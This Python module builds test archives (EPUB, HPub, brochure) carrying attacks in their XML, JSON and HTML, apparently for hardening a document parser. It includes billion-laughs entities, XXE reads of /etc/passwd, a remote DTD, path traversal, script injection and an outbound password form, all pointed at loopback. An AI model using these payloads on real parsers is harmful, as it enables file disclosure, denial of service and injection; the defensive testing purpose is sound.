"""EPUBs, HPubs and brochures with attacks in their XML, JSON and HTML."""
import json
from .images import png
from .zips import STORED, Entry, archive

GOOD = png(300, 400)
CONTAINER = """<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>"""
PAGE = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title></head><body><p>Hello.</p>{}</body></html>'
OPF = """<?xml version="1.0"?>{doctype}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:x</dc:identifier><dc:title>{title}</dc:title>
<dc:language>en</dc:language></metadata><manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="a" href="{href}" media-type="application/xhtml+xml"/>{more}</manifest><spine>{spine}</spine></package>"""
NAV = '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc">{}</nav></body></html>'
LIST = '<ol><li><a href="a.xhtml">One</a></li></ol>'
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY a "' + "x" * 1000 + '">'
          + "".join(f'<!ENTITY {n} "{"&" + p + ";" * 1}{("&" + p + ";") * 9}">' for p, n in zip("abcdefgh", "bcdefghi")) + "]>")
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p; <!ENTITY xxe SYSTEM "http://127.0.0.1:9/">]>'
REFUSED = ["not-well-formed", "damaged", "empty", "missing-file", "not-recognised", "unsafe-archive"]


def epub(page=PAGE.format(""), container=CONTAINER, opf=None, nav=None, more=(), **fields):
    opf = opf or OPF.format(**{"doctype": "", "title": "T", "href": "a.xhtml", "more": "", "spine": '<itemref idref="a"/>', **fields})
    entries = [Entry("mimetype", b"application/epub+zip", STORED), Entry("META-INF/container.xml", encoded(container)),
               Entry("OEBPS/content.opf", encoded(opf)), Entry("OEBPS/nav.xhtml", encoded(nav or NAV.format(LIST))),
               Entry("OEBPS/a.xhtml", encoded(page))]
    return archive(entries + list(more))


def encoded(text):
    return text if isinstance(text, bytes) else text.encode()


def add(collection):
    for name, data, answers in list(packages()) + list(pages()) + list(magazines()):
        collection.add(name, data, answers, name.rsplit(".", 1)[0].replace("-", " "))


def packages():
    yield "epub-good.epub", epub(), ["ok"]
    yield "epub-laughs-opf.epub", epub(doctype=LAUGHS, title="&i;"), ["ok"] + REFUSED
    yield "epub-laughs-container.epub", epub(container=CONTAINER.replace('?>', "?>" + LAUGHS).replace("1.0\" xmlns", "&i;\" xmlns")), ["ok"] + REFUSED
    yield "epub-laughs-page.epub", epub(page=PAGE.format("&i;").replace("?>", "?>" + LAUGHS)), ["ok"] + REFUSED
    yield "epub-xxe-opf.epub", epub(doctype=XXE, title="&xxe;"), ["ok"] + REFUSED
    yield "epub-xxe-page.epub", epub(page=PAGE.format("&xxe;").replace("?>", "?>" + XXE)), ["ok"] + REFUSED
    yield "epub-remote-dtd.epub", epub(doctype=REMOTE, title="&xxe;"), ["ok"] + REFUSED
    yield "epub-no-spine.epub", epub(spine=""), REFUSED
    yield "epub-spine-to-nowhere.epub", epub(spine='<itemref idref="zz"/>'), REFUSED
    yield "epub-up-and-out.epub", epub(href="../../../../etc/passwd"), ["ok"] + REFUSED
    yield "epub-absolute.epub", epub(href="file:///etc/passwd"), ["ok"] + REFUSED
    yield "epub-rootfile-out.epub", epub(container=CONTAINER.replace("OEBPS/", "../../OEBPS/")), REFUSED
    yield "epub-no-rootfile.epub", epub(container="<container/>"), REFUSED
    yield "epub-container-is-soup.epub", epub(container="<<<>>>&&&"), REFUSED
    yield "epub-container-empty.epub", epub(container=""), REFUSED
    yield "epub-opf-binary.epub", epub(opf=bytes(range(256)) * 40), REFUSED
    yield "epub-opf-utf16-half.epub", epub(opf=b"\xff\xfe" + OPF.encode("utf-16-le")[:501]), REFUSED
    yield "epub-many-items.epub", epub(more_items=0, spine='<itemref idref="a"/>' * 20_000), ["ok", "too-large"] + REFUSED
    deep = "<ol><li><a href='a.xhtml'>x</a>" * 5_000 + "</li></ol>" * 5_000
    yield "epub-deep-nav.epub", epub(nav=NAV.format(deep)), ["ok"] + REFUSED
    circle = '<item id="b" href="b" media-type="x/y" fallback="c"/><item id="c" href="c" media-type="x/y" fallback="b"/>'
    yield "epub-fallback-circle.epub", epub(more=[], opf=OPF.format(doctype="", title="T", href="a.xhtml", more=circle,
          spine='<itemref idref="b"/><itemref idref="a"/>')), ["ok"] + REFUSED
    drm = '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><CipherData><CipherReference URI="OEBPS/a.xhtml"/></CipherData></EncryptedData></encryption>'
    yield "epub-drm.epub", epub(more=[Entry("META-INF/encryption.xml", drm.encode())]), ["encrypted"]


def pages():
    soups = {
        "script": "<script>fetch('//127.0.0.1:9/')</script>", "handler": "<img src='x' onerror='alert(1)'/>",
        "frame": "<iframe src='file:///etc/passwd'></iframe>", "base": "<base href='http://127.0.0.1:9/'/>",
        "refresh": "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:9/'/>", "object": "<object data='x.swf'/>",
        "svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><use href='//127.0.0.1:9/#a'/></svg>",
        "style": "<style>@import url(//127.0.0.1:9/a.css); p{background:url('http://127.0.0.1:9/')}</style>",
        "form": "<form action='http://127.0.0.1:9/'><input name='password'/></form>", "cut": "<div><p><b", "nul": "\0\0\0",
        "deep": "<div>" * 20_000, "attributes": "<p " + " ".join(f"a{n}='1'" for n in range(20_000)) + ">x</p>",
        "entities": "&#0;&#xFFFFFFFF;&bogus;&#x110000;", "cdata": "<![CDATA[ ]]]]><![CDATA[> <script>1</script> ]]>",
        "long-word": "<p>" + "x" * 5_000_000 + "</p>", "many": "<p>a</p>" * 200_000,
    }
    for name, soup in soups.items():
        # Five megabytes of one letter compress so well that they may count as a bomb.
        yield f"epub-page-{name}.epub", epub(page=PAGE.replace("{}", "{0}").format(soup)), ["ok", "archive-too-large"] + REFUSED
    yield "epub-page-empty.epub", epub(page=""), ["ok"] + REFUSED
    yield "epub-page-binary.epub", epub(page=bytes(range(256)) * 400), ["ok"] + REFUSED


def magazines():
    def hpub(book, *files):
        return archive([Entry("book.json", encoded(book))] + [Entry(name, data) for name, data in files])
    page = ("a.html", b"<!doctype html><title>A</title><p>Hello <script>1</script>")
    good = json.dumps({"hpub": 1, "title": "T", "author": ["A"], "url": "book://x", "contents": ["a.html"]})
    yield "hpub-good.hpub", hpub(good, page), ["ok"]
    yield "hpub-not-json.hpub", hpub("{nope", page), ["ok"] + REFUSED
    yield "hpub-empty-json.hpub", hpub("", page), ["ok"] + REFUSED
    yield "hpub-deep-json.hpub", hpub("[" * 100_000, page), ["ok"] + REFUSED
    yield "hpub-wrong-types.hpub", hpub('{"title": [1], "contents": {"a": null}, "author": 7}', page), ["ok"] + REFUSED
    yield "hpub-up-and-out.hpub", hpub(good.replace("a.html", "../../../etc/passwd"), page), ["ok"] + REFUSED
    yield "hpub-remote.hpub", hpub(good.replace("a.html", "http://127.0.0.1:9/"), page), ["ok"] + REFUSED
    yield "hpub-missing.hpub", hpub(good.replace("a.html", "b.html"), page), ["ok"] + REFUSED
    yield "hpub-no-contents.hpub", hpub('{"title": "T", "contents": []}', page), ["ok"] + REFUSED
    yield "hpub-many.hpub", hpub(json.dumps({"title": "T", "contents": ["a.html"] * 50_000}), page), ["ok", "too-large"] + REFUSED
    yield "hpub-number.hpub", hpub('{"title": "T", "contents": ["a.html"], "hpub": 1e999999}', page), ["ok"] + REFUSED
    yield "hpub-surrogate.hpub", hpub('{"title": "\\ud800", "contents": ["a.html"]}', page), ["ok"] + REFUSED
    plist = '<?xml version="1.0"?>{}<plist version="1.0"><array><array>{}</array></array></plist>'
    simple = "<dict><key>class</key><string>SimplePage</string><key>properties</key><dict><key>baseImage</key><string>{}</string></dict></dict>"
    def brochure(doctype, *pages):
        return archive([Entry("brochure.plist", plist.format(doctype, "".join(pages)).encode()), Entry("1.png", GOOD)])
    yield "brochure-good.zip", brochure("", simple.format("1.png")), ["ok"]
    yield "brochure-laughs.zip", brochure(LAUGHS, simple.format("&i;")), ["ok"] + REFUSED
    yield "brochure-xxe.zip", brochure(XXE, simple.format("&xxe;")), ["ok"] + REFUSED
    yield "brochure-out.zip", brochure("", simple.format("../../etc/passwd")), ["ok", "page-failed"] + REFUSED
    yield "brochure-class.zip", brochure("", simple.format("1.png").replace("SimplePage", "NSTask")), ["ok"] + REFUSED
    yield "brochure-deep.zip", brochure("", "<array>" * 5_000), ["ok"] + REFUSED
    yield "brochure-types.zip", brochure("", "<integer>7</integer>", "<true/>", "<data>AAAA</data>"), ["ok"] + REFUSED
